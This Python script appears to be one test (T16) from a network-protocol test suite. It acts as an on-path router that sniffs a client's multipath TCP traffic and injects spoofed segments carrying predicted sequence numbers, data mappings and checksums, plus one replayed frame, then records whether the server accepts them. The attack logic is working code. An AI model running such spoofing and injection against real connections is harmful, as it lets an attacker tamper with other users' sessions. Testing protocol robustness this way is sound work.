#!/usr/bin/env python3
"""T16: on a router of path 1, sees what passes, and sends segments of its own
from the client's address, with the sequence numbers and the mapping that the
client's next segment will have, ahead of it.

usage: inject.py IFACE CLIENT PORT REPORT    until SIGTERM; makes REPORT.up
"""

import json
import select
import signal
import socket
import struct
import sys
import time

import stream
import wire

FIRST, EVERY = 10, 12   # which data segments are followed by a forged one
INJECTED_MAX = 3


def frame_like(data):
    """Whether the octets have the shape of frames: what a forger imitates."""
    if len(data) < 20 or data[0] > 7:
        return False
    return struct.unpack("!H", data[1:3])[0] + 3 <= len(data)


class Injector:
    def __init__(self, client, port):
        self.client, self.port = client, port
        self.out = socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                 socket.IPPROTO_RAW)
        self.seen = 0
        self.isns = {}
        self.old = b""
        self.report = {"seen": 0, "read": 0, "injected": 0, "octets": 0,
                       "acked": 0, "frames": 0, "replays": 0, "sums": False,
                       "reset_reasons": []}
        self.waiting = {}

    def forge(self, data):
        """Of the same length: a record with other words, or what looks like a
        frame, the second time a genuine frame that was sent before."""
        if not frame_like(data):
            return stream.record("c", self.seen, stream.EVIL)[:len(data)]
        self.report["frames"] += 1
        if self.report["frames"] == 2 and len(self.old) == len(data):
            self.report["replays"] += 1
            return self.old
        return data[:3] + stream.record("c", self.seen,
                                        stream.EVIL)[:len(data) - 3]

    def inject(self, seg, dss):
        """Right behind seg, as the client would go on."""
        into = (seg.seq - self.isns[seg.sport] - dss.ssn) % (1 << 32)
        length = len(seg.data)
        dsn = (wire.near(dss.dsn, 0) + into + length) % (1 << 64)
        ssn = (dss.ssn + into + length) % (1 << 32)
        data = self.forge(seg.data)
        sums = wire.dss_sum(dsn, ssn, length, data) if dss.sums else None
        ack = wire.near(dss.ack, 0) if dss.ack and not dss.sums else None
        opts = [o for o in seg.opts if o[0] == wire.STAMPS]
        opts.append(wire.dss(dsn, ssn, length, ack, sums))
        forged = wire.Segment(seg.src, seg.sport, seg.dst, seg.dport,
                              seg.seq + length, seg.ack, wire.ACK | wire.PSH,
                              seg.wnd, opts, data)
        self.out.sendto(forged.pack(), (seg.dst, 0))
        self.waiting[seg.sport] = (forged.seq + length) % (1 << 32)
        self.report["injected"] += 1
        self.report["octets"] += length
        self.report["sums"] = dss.sums

    def from_client(self, seg):
        if seg.flags & wire.SYN:
            self.isns[seg.sport] = seg.seq
            return
        dss = seg.mapping()
        if not seg.data or not dss or dss.dsn is None or not dss.ssn or \
                seg.sport not in self.isns:
            return
        self.seen += 1
        self.report["seen"] = self.seen
        self.report["read"] += stream.readable(seg.data)
        n = self.seen - FIRST
        if n >= 0 and n % EVERY == 0 and len(seg.data) < 2 * stream.RECORD and \
                self.report["injected"] < INJECTED_MAX:
            self.inject(seg, dss)
        self.old = seg.data

    def from_server(self, seg):
        if seg.flags & wire.RST:
            self.report["reset_reasons"].append(seg.rst_reason())
        elif self.waiting.get(seg.dport) == seg.ack:
            del self.waiting[seg.dport]
            self.report["acked"] += 1

    def packet(self, pkt):
        seg = wire.Segment.parse(pkt)
        if seg and seg.src == self.client and seg.dport == self.port:
            self.from_client(seg)
        elif seg and seg.dst == self.client and seg.sport == self.port:
            self.from_server(seg)


def main():
    iface, client, port, out = sys.argv[1:5]
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    ear.bind((iface, 3))
    attack = Injector(client, int(port))
    going = [True]
    signal.signal(signal.SIGTERM, lambda *_: going.clear())
    open(out + ".up", "w").close()
    end = time.monotonic() + 30
    while going and time.monotonic() < end:
        if select.select([ear], [], [], 0.1)[0]:
            attack.packet(ear.recv(65535))
    with open(out, "w", encoding="ascii") as f:
        json.dump(attack.report, f)


main()
